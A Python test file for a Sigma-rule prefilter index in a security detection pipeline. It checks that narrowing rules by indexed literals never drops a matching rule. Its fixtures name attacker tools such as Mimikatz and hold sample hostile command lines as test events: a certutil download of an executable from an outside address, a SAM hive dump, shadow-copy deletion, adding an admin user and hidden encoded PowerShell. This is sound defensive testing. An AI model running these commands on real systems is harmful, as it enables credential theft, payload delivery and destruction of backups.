"""The literal index narrows the rules an event meets and never drops one that matches."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sigma.rule import SigmaRule

from processors.security.sigma import FieldMap
from processors.security.sigma.loader import load_texts
from processors.security.sigma.matcher import compile_detections
from processors.security.sigma.prefilter import RuleIndex, needs

FIELDMAP = FieldMap.load()
SIGMAHQ = Path(__file__).resolve().parents[3] / "shared" / "vendor" / "sigmahq" / "rules"


def _rule(detection: dict[str, Any]) -> SigmaRule:
    return SigmaRule.from_dict(
        {"title": "t", "logsource": {"category": "process_creation"}, "detection": detection}
    )


def _literals(detection: dict[str, Any]) -> set[tuple[tuple[str, ...], str]] | None:
    found = needs(_rule(detection).detection, FIELDMAP)
    return None if found is None else {(ref.paths, literal) for ref, literal in found}


IMAGE = FIELDMAP.ref("Image").paths
COMMAND = FIELDMAP.ref("CommandLine").paths


def test_an_and_keeps_its_most_selective_part_and_an_or_adds_up() -> None:
    assert _literals(
        {
            "img": {"Image|endswith": ["\\whoami.exe", "\\net.exe"]},
            "cmd": {"CommandLine|contains": " /all"},
            "condition": "img and cmd",
        }
    ) == {(IMAGE, "\\whoami.exe"), (IMAGE, "\\net.exe")}
    assert _literals(
        {
            "a": {"Image|endswith": "\\A.EXE"},
            "b": {"CommandLine": "x*Mimik*atz"},
            "condition": "a or b",
        }
    ) == {(IMAGE, "\\a.exe"), (COMMAND, "mimik")}


@pytest.mark.parametrize(
    "detection",
    [
        {"sel": {"Image|re": "w.oami"}, "condition": "sel"},
        {"sel": {"EventID": 4688}, "condition": "sel"},
        {"sel": {"Image|endswith": "\\a.exe"}, "f": {"User": "x"}, "condition": "sel or not f"},
        {"sel": {"CommandLine|cased": "Mimikatz"}, "condition": "sel"},
        {"sel": {"Image": None}, "condition": "sel"},
        {"sel": {"Image": "*"}, "condition": "sel"},
    ],
)
def test_what_the_index_cannot_describe_is_always_a_candidate(detection: dict) -> None:
    assert _literals(detection) is None


RULES = [{"a": {"Image|endswith": f"\\tool{i}.exe"}, "condition": "a"} for i in range(20)] + [
    {"a": {"CommandLine|contains|windash": "-enc "}, "condition": "a"},
    {"a": {"CommandLine|contains": "whoami"}, "condition": "a"},
    {"a": {"Image|re": "(?i)psexe"}, "condition": "a"},
    {"a": {"CommandLine|contains|all": ["net", "user", "/add"]}, "condition": "a"},
]


def _index() -> tuple[list[Any], RuleIndex]:
    compiled = []
    for detection in RULES:
        rule = _rule(detection)
        compiled.append(
            (compile_detections(rule.detection, FIELDMAP), needs(rule.detection, FIELDMAP))
        )
    return compiled, RuleIndex(compiled, [n for _, n in compiled])


COMPILED, INDEX = _index()
TEXTS = st.text(alphabet=st.sampled_from(list("abcnetusr/-–\\.exwhoamiİK ")), max_size=40)


@settings(max_examples=300, deadline=None)
@given(image=TEXTS, command=TEXTS)
def test_the_candidates_hold_every_rule_that_matches(image: str, command: str) -> None:
    view = FIELDMAP.view({"process": {"executable": image, "command_line": command}})
    matching = {i for i, (predicate, _) in enumerate(COMPILED) if predicate(view)}
    candidates = {COMPILED.index(c) for c in INDEX.candidates(view)}
    assert matching <= candidates


def test_an_event_meets_only_the_rules_its_text_can_match() -> None:
    view = FIELDMAP.view({"process": {"executable": "C:\\x\\TOOL3.EXE", "command_line": "ls"}})
    candidates = [COMPILED.index(c) for c in INDEX.candidates(view)]
    assert candidates == [3, 22]  # tool3, and the regex rule nobody can index


def test_case_folding_is_the_matchers_own() -> None:
    # Python folds U+0130 to "i" + a combining dot: the matcher finds "whoami" in
    # "WHOAMİ", so the index must offer the rule too (a regex engine's folding would not).
    view = FIELDMAP.view({"process": {"command_line": "cmd /c WHOAMİ"}})
    predicate, _ = COMPILED[21]
    assert predicate(view)
    assert any(c is COMPILED[21] for c in INDEX.candidates(view))


@pytest.mark.skipif(not SIGMAHQ.is_dir(), reason="SigmaHQ's rules are vendored in ../shared only")
def test_over_sigmahq_the_index_finds_exactly_what_a_full_scan_finds() -> None:
    texts = [
        (str(p), p.read_text(encoding="utf-8"))
        for p in sorted(SIGMAHQ.glob("windows/process_creation/*.yml"))
    ]
    ruleset = load_texts(texts, FIELDMAP)
    assert len(ruleset.rules) > 500
    index = RuleIndex(ruleset.rules, [rule.needs for rule in ruleset.rules])
    for event in _process_events():
        view = FIELDMAP.view(event)
        full = [rule.info.key for rule in ruleset.rules if rule.predicate(view)]
        narrowed = [rule.info.key for rule in index.candidates(view) if rule.predicate(view)]
        assert narrowed == full, event
        assert len(list(index.candidates(view))) < len(ruleset.rules) / 4


W = "C:\\Windows\\System32\\"
PROCESSES = [
    (W + "whoami.exe", "whoami /priv", W + "cmd.exe"),
    (
        W + "WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell -nop -w hidden -enc SQBFAFgA",
        "C:\\Windows\\explorer.exe",
    ),
    (W + "net.exe", "net user admin P@ss /add", W + "cmd.exe"),
    (W + "rundll32.exe", "rundll32.exe C:\\Users\\Public\\x.dll,DllRegisterServer", W + "cmd.exe"),
    (
        W + "certutil.exe",
        "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe",
        W + "cmd.exe",
    ),
    (
        "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
        "firefox.exe -contentproc",
        "C:\\Windows\\explorer.exe",
    ),
    (W + "reg.exe", "reg save HKLM\\SAM C:\\temp\\sam.save", W + "cmd.exe"),
    (W + "vssadmin.exe", "vssadmin delete shadows /all /quiet", W + "cmd.exe"),
]


def _process_events() -> list[dict[str, Any]]:
    return [
        {
            "event": {"category": ["process"], "type": ["start"]},
            "process": {
                "executable": image,
                "command_line": command,
                "parent": {"executable": parent},
            },
            "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1},
        }
        for image, command, parent in PROCESSES
    ]
